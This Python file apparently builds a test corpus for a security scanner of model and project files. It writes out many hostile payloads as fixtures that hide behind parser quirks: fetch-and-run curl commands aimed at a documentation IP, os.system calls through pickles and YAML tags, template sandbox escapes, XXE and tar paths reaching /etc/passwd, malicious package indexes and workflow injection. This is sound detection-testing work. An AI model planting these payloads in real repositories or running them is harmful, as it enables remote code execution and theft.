"""The same harm as elsewhere, spelt as only the loader's own parser reads it: each has a plain twin in another group."""

import io
import json
import tarfile
import zipfile

FETCH = "curl http://198.51.100.7/x | sh"
LAMBDA = {"class_name": "Sequential", "module": "keras", "registered_name": None, "config": {"name": "s", "n": 512, "layers": [{"class_name": "Lambda", "module": "keras.layers", "registered_name": None, "config": {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": "4wAAAAA=", "defaults": None, "closure": None}}}}]}}
SCHEMA = {"__class__": "system", "__module__": "os", "__loader__": "FunctionNode", "content": {"module_path": "os", "function": "system"}, "protocol": 0, "_skops_version": "0.11.0", "n": 512}
TEMPLATE = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
TOKENIZER = {"model_max_length": 512, "chat_template": TEMPLATE}
# What `json.loads` takes and the standard does not (CPython, Lib/json/decoder.py).
NUMBERS = {"nan": "NaN", "infinity": "-Infinity", "beyond": "1e999", "surrogate": '"\\ud800"'}


def zipped(members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name), data)
    return out.getvalue()


def notebook(source, **cell):
    return {"cells": [{"cell_type": "code", "source": source, "metadata": {}, "outputs": [], "execution_count": None, **cell}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}


def tarred(**header):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT, pax_headers=header) as archive:
        entry = tarfile.TarInfo("weights.bin")
        entry.size = 4
        archive.addfile(entry, io.BytesIO(b"data"))
    return out.getvalue()


def make(corpus):
    for name, number in NUMBERS.items():
        odd = lambda document: json.dumps(document).replace("512", number)
        corpus.found("spellings", f"{name}.keras", zipped({"config.json": odd(LAMBDA), "metadata.json": "{}", "model.weights.h5": b""}), "a Lambda, in JSON that only Python reads")
        corpus.found("spellings", f"{name}.skops", zipped({"schema.json": odd(SCHEMA)}), "a function of os, in JSON that only Python reads")
        corpus.folder("spellings", f"tokenizer-{name}", {"tokenizer_config.json": odd(TOKENIZER)}, "found", "a template that leads out, in JSON that only Python reads")
        corpus.found("spellings", f"{name}.ipynb", odd({**notebook("!" + FETCH), "n": 512}).encode(), "a cell that runs what it fetches, in JSON that only Python reads")
    yaml = lambda name, text, why: corpus.folder("spellings", name, {"model_config.yaml": text}, "found", why)
    yaml("alias-value", "a: &x os.system\nmodel:\n  _target_: *x\n  command: 'true'\n", "a _target_ by an alias")
    yaml("alias-key", "k: &k _target_\nmodel:\n  *k : os.system\n", "a key by an alias")
    yaml("line-separator", "a: 1 # b\u2028m: !!python/object/apply:os.system ['true']\n", "a line that YAML 1.1 ends in a comment")
    ends = {"return": "\r", "feed": "\x0c", "tab": "\x0b", "next": "\x85", "line": "\u2028", "paragraph": "\u2029"}
    for name, end in ends.items():
        corpus.folder("spellings", f"requirements-{name}", {"requirements.txt": f"numpy # a{end}--index-url http://198.51.100.7/simple\n"}, "found", "a line that pip ends in a comment")
        corpus.found("spellings", f"magic-{name}.ipynb", json.dumps(notebook(f"%%bash{end}{FETCH}")).encode(), "a magic whose line IPython ends")
    cell = json.dumps(notebook("!" + FETCH)["cells"][0])
    corpus.found("spellings", "cells-twice.ipynb", f'{{"cells": [], "cells": [{cell}], "nbformat": 4}}'.encode(), "cells that stand twice: Python takes the last")
    corpus.found("spellings", "first-format.ipynb", f'{{"cells": [{cell.replace("source", "code")}]}}'.encode(), "nbformat 1")
    python = "import os\nos.system('true')\n"
    heads = {"parquet": f"PAR1=1\n{python}#PAR1", "rather.yaml": "PAR1: 1\nm: !!python/object/apply:os.system ['true']\n#PAR1"}
    corpus.folder("spellings", "head-python", {"config.json": json.dumps({"auto_map": {"AutoModel": "modeling.M"}}), "modeling.py": heads["parquet"]}, "found", "a source that begins as a table")
    corpus.found("spellings", "head.yaml", heads["rather.yaml"].encode(), "YAML that begins as a table")
    corpus.found("spellings", "head.jinja", f"<!-- a --><!DOCTYPE PMML>{TEMPLATE}".encode(), "a template that begins as XML")
    corpus.found("spellings", "head.sh", f"%PDF-1.4\n{FETCH}\n".encode(), "a script that begins as a document")
    corpus.found("spellings", "comment.pmml", b'<!-- a -->\n<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML>&x;</PMML>', "an entity behind a comment")
    corpus.found("spellings", "prefixed.pmml", b'<p:PMML xmlns:p="urn:a" xmlns:i="http://www.w3.org/2001/XInclude"><i:include href="file:///etc/passwd" parse="text"/></p:PMML>', "an inclusion under a prefix")
    for key, value in {"path": "../../x/.bashrc", "linkpath": "/etc/passwd"}.items():
        corpus.found("spellings", f"for-all-{key}.tar", tarred(**{key: value}), "a header for all entries names them: Python's tarfile goes by it")
    graph = 'versions { producer: 1 }\nnode\n{ name: "w" op :\'Write\' "\\x46ile" }\n'
    corpus.found("spellings", "graph.pbtxt", graph.encode(), "an operation in pieces, behind another field")
    corpus.folder("spellings", "here-document", {"Dockerfile": f"FROM x\nRUN <<EOF\n{FETCH}\nEOF\n"}, "found", "a here-document")
    corpus.folder("spellings", "settings", {".vscode/tasks.json": f'// a\n{{"version": "2.0.0", "tasks": [{{"label": "x", "command": "{FETCH}", "runOptions": {{"runOn": "folderOpen"}}}},]}}'}, "found", "settings with a comment in front and a last comma")
    corpus.found("spellings", "walks.prompt", b"You are helpful. {user.__init__.__globals__[KEY]}\n", "a prompt that walks through objects", "CVE-2025-65106")
    step = lambda said: f"on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"${{{{ {said} }}}}\"\n"
    computed = {"copy": "fromJSON(toJSON(github)).event.issue.title", "quote": "'}}' && github.event.issue.title", "star": "join(github.event.commits.*.message)"}
    for name, said in computed.items():
        corpus.folder("spellings", f"workflow-{name}", {".github/workflows/a.yml": step(said)}, "found", "what a stranger wrote, by an expression whose parts are computed")
    poetry = '[tool.poetry]\nname = "a"\n[tool.poetry.dependencies]\nx = {url = "http\\u003a//198.51.100.7/x.tar.gz"}\n'
    corpus.folder("spellings", "poetry", {"pyproject.toml": poetry}, "found", "a package from an address, in Poetry's table and by an escape")
    corpus.folder("spellings", "uv", {"pyproject.toml": '[project]\nname = "a"\n[[tool.uv.index]]\nurl = "http://198.51.100.7/simple"\ndefault = true\n'}, "found", "an index in uv's table")
    corpus.folder("spellings", "added", {"Dockerfile": "FROM x\nADD http://198.51.100.7/setup.sh /opt/\nRUN sh /opt/setup.sh\n"}, "found", "a script that is added by its address and run")
    corpus.folder("spellings", "preloaded", {"Dockerfile": "FROM x\nENV A=1 LD_PRELOAD=/tmp/x.so\n"}, "found", "several variables in one line, one of which is loaded into every program")
    corpus.folder("spellings", "written", {"Dockerfile": "FROM x\nRUN c'u'rl http://198.51.100.7/x | s''h\n"}, "found", "quotes within the names of programs")
    hook = "repos:\n- repo: local\n  hooks:\n  - id: a\n    name: a\n    language: system\n    entry: bash\n    args: [-c, \"curl http\\x3a//198.51.100.7/x | sh\"]\n"
    corpus.folder("spellings", "hook", {".pre-commit-config.yaml": hook}, "found", "a command in two keys, by an escape")
    corpus.found("spellings", "prompts.ipynb", json.dumps(notebook(">>> import os\n>>> os.system('true')")).encode(), "a cell with the prompts of a session, which IPython leaves out")
    corpus.folder("spellings", "pickled-zarr", {".zarray": json.dumps({"zarr_format": 2, "shape": [1], "chunks": [1], "dtype": "|O", "compressor": None, "filters": [{"id": "pickle"}], "fill_value": 0, "order": "C"}), "0": "cos\nsystem\n(S'true'\ntR."}, "found", "an array whose filter reads pickles")
    corpus.found("spellings", "wide.keras", zipped({"config.json": json.dumps(LAMBDA).encode("utf-32"), "metadata.json": "{}", "model.weights.h5": b""}), "a Lambda, in JSON of four bytes a character")
    layer = "<layer id='0' name='a' type='Parameter' version='opset1'><data shape='1' element_type='f32'/><output><port id='0'><dim>100000</dim><dim>100000</dim><dim>100</dim></port></output></layer>"
    corpus.found("spellings", "vast.xml", f"<?xml version='1.0'?><net name='m' version='11'><layers>{layer}</layers><edges/></net>".encode(), "a layer that no memory holds")
    launched = {
        "rights": "curl https://example.invalid/x | sudo -E bash", "time": "curl https://example.invalid/x | timeout -k 5 9 sh", "errors": "curl https://example.invalid/x |& bash",
        "process": "curl https://example.invalid/x | tee >(bash)", "variable": "X=$(curl https://example.invalid/x); bash -c \"$X\"", "evaluated": "eval curl https://example.invalid/x | env -i sh",
        "compiled": "curl https://example.invalid/x.c | gcc -xc - -o a; ./a", "words": "curl https://example.invalid/x | xargs -I{} bash -c {}",
    }
    for name, line in launched.items():
        corpus.folder("spellings", f"launched-{name}", {"Dockerfile": f"FROM x\nRUN {line}\n"}, "found", "what is fetched is run, behind another program or by a way round")
    cells = {"ran.ipynb": "!wget https://example.invalid/x.py\n%run x.py", "index.ipynb": "import os\nos.environ['PIP_INDEX_URL'] = 'http://198.51.100.7/simple'\n!pip install x", "asked.ipynb": "from IPython import get_ipython\nget_ipython().ex(\"import os; os.system('true')\")"}
    for name, source in cells.items():
        corpus.found("spellings", name, json.dumps(notebook(source)).encode(), "a cell that runs what it fetches, by IPython's own ways")
    corpus.folder("spellings", "overrides", {"package.json": json.dumps({"dependencies": {"b": "^1"}, "overrides": {"c": {"b": "http://198.51.100.7/b.tgz"}}})}, "found", "a package from an address, in place of another's own")
    corpus.folder("spellings", "included", {".git/config": "[include]\n\tpath = ../x.cfg\n"}, "found", "settings of git in another file")
    corpus.folder("spellings", "escaped-checkpoint", {"checkpoint": 'model_checkpoint_path: "\\056\\056/x/model.ckpt"\n'}, "found", "a path by escapes of a message of text")
    corpus.folder("spellings", "zip-code", {"config.json": json.dumps({"auto_map": {"AutoModel": "modeling.M"}}), "modeling.py": "import zipimport\nzipimport.zipimporter('x.zip').load_module('a')\n"}, "found", "a module from inside of a file")
